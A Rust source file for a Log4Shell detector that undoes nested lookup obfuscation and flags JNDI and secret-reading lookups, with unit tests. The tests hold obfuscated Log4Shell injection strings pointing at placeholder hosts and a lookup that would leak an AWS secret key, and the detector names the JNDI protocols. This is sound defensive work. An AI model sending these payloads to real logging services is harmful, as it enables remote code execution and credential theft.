//! Log4Shell: `${jndi:…}` lookups, after resolving the nested lookups used to hide them
//! (`${${lower:j}ndi:`, `${::-j}`, `${env:NOPE:-j}`, `${upper:n}`).

/// Most lookup resolutions performed (each removes at least two bytes, so this also bounds work).
const MAX_RESOLUTIONS: usize = 256;

/// Resolves the innermost obfuscation lookups of `s`. Other lookups are left as they are.
#[must_use]
pub fn deobfuscate(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..MAX_RESOLUTIONS {
        let Some(next) = resolve_one(&cur) else { break };
        cur = next;
    }
    cur
}

/// Replaces one innermost `${…}` that is an obfuscation lookup by what it evaluates to. One
/// forward pass: the innermost lookup ending at a `}` is the last `${` before it.
fn resolve_one(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(rel) = memchr::memchr(b'}', &b[from..]) {
        let close = from + rel;
        let open = memchr::memmem::rfind(&b[from..close], b"${").map(|p| from + p);
        if let Some(start) = open {
            let inner = &s[start + 2..close];
            if let Some(r) = lookup_value(inner) {
                let mut out = String::with_capacity(s.len());
                out.push_str(&s[..start]);
                out.push_str(&r);
                out.push_str(&s[close + 1..]);
                return Some(out);
            }
        }
        from = close + 1;
    }
    None
}

/// What an obfuscation lookup evaluates to (`lower:x` → `x`, `::-x` / `env:NOPE:-x` → `x`).
fn lookup_value(inner: &str) -> Option<String> {
    if let Some((_, default)) = inner.split_once(":-") {
        Some(default.to_owned())
    } else if let Some(x) = strip_prefix_ci(inner, "lower:").or_else(|| strip_prefix_ci(inner, "upper:")) {
        Some(x.to_ascii_lowercase())
    } else {
        strip_prefix_ci(inner, "date:").map(|x| x.trim_matches('\'').to_owned())
    }
}

fn strip_prefix_ci<'a>(s: &'a str, p: &str) -> Option<&'a str> {
    (s.len() >= p.len() && s.is_char_boundary(p.len()) && s[..p.len()].eq_ignore_ascii_case(p)).then(|| &s[p.len()..])
}

/// Log4Shell lookup in `s`.
#[must_use]
pub fn detect(s: &str) -> Option<&'static str> {
    memchr::memmem::find(s.as_bytes(), b"${")?;
    let d = deobfuscate(s).to_ascii_lowercase();
    let squashed: String = d.chars().filter(|c| !c.is_whitespace()).collect();
    if squashed.contains("${jndi:")
        || ["ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:"]
            .iter()
            .any(|p| squashed.contains(&format!("${{{p}")))
    {
        return Some("log4shell-jndi");
    }
    if [
        "${env:",
        "${sys:",
        "${java:",
        "${main:",
        "${ctx:",
        "${bundle:",
        "${k8s:",
        "${docker:",
        "${spring:",
        "${web:",
        "${log4j:",
        "${base64:",
    ]
    .iter()
    .any(|p| squashed.contains(p))
    {
        return Some("log4shell-lookup");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for a in [
            "${jndi:ldap://x.test/a}",
            "${${lower:j}ndi:${lower:l}dap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
            "${${upper:J}ndi:dns://x}",
        ] {
            assert_eq!(detect(a), Some("log4shell-jndi"), "{a:?} -> {}", deobfuscate(a));
        }
        assert_eq!(detect("${env:AWS_SECRET_ACCESS_KEY}"), Some("log4shell-lookup"));
    }

    #[test]
    fn benign() {
        for b in ["Total ${amount}", "${user.name}", "price $5 {x}", "${"] {
            assert!(detect(b).is_none(), "false positive {b:?}");
        }
    }
}
